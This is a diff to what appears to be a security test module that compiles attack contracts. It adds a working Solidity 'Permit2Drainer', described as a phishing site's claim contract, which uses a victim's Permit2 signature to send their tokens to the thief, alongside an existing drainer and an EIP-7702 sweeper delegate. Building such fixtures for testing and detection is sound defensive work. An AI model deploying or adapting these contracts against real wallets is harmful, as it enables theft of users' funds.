@@ -58,6 +58,33 @@ contract Drainer {
     }
 }
 
+/// Permit2's SignatureTransfer, as its own interface declares it (only what the thief calls).
+interface ISignatureTransfer {
+    struct TokenPermissions { address token; uint256 amount; }
+    struct PermitTransferFrom { TokenPermissions permitted; uint256 nonce; uint256 deadline; }
+    struct SignatureTransferDetails { address to; uint256 requestedAmount; }
+    function permitTransferFrom(
+        PermitTransferFrom memory permit,
+        SignatureTransferDetails calldata transferDetails,
+        address owner,
+        bytes calldata signature
+    ) external;
+}
+
+/// A phishing site's "claim" contract: the victim's PermitTransferFrom signature names it as the
+/// spender, and it calls Permit2 with it. Permit2 emits no event for a SignatureTransfer.
+contract Permit2Drainer {
+    address private immutable thief;
+    ISignatureTransfer private immutable permit2;
+    constructor(address permit2_) { thief = msg.sender; permit2 = ISignatureTransfer(permit2_); }
+    function claim(ISignatureTransfer.PermitTransferFrom calldata permit, address victim, bytes calldata signature) external {
+        require(msg.sender == thief);
+        permit2.permitTransferFrom(
+            permit, ISignatureTransfer.SignatureTransferDetails(thief, permit.permitted.amount), victim, signature
+        );
+    }
+}
+
 /// The code an EIP-7702 "sweeper" delegation points at: everything that arrives leaves for the thief.
 contract ForwardingDelegate {
     address public immutable destination;
@@ -72,7 +99,7 @@ contract ForwardingDelegate {
 }
 `
 
-const NAMES = ['PermitToken', 'Collectible', 'MultiToken', 'Drainer', 'ForwardingDelegate'] as const
+const NAMES = ['PermitToken', 'Collectible', 'MultiToken', 'Drainer', 'Permit2Drainer', 'ForwardingDelegate'] as const
 export type ContractName = (typeof NAMES)[number]
 
 export function securityContracts(): Record<ContractName, Compiled> {
